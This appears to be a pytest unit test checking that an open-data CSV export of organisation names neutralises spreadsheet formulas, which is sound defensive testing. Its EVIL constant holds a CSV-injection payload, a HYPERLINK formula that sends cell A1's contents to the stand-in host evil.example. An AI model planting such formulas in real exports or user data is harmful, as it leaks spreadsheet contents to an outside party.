"""No export hands a spreadsheet a formula: open data (the rule: tests/unit/test_safe_text.py)."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from tests.factories import make_organisation

pytestmark = pytest.mark.usefixtures("database")

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


async def test_an_organisation_named_like_a_formula_is_plain_text_in_open_data(
    client: httpx.AsyncClient,
) -> None:
    await make_organisation(name=EVIL)
    response = await client.get("/api/v1/disclosure/organisations.csv")
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = [row["name"] for row in rows]
    assert "'" + EVIL in names
    assert not any(
        cell.startswith(("=", "+", "-", "@"))
        for row in rows
        for cell in row.values()
        if cell and not cell.lstrip("+-").replace(".", "", 1).isdigit()
    )
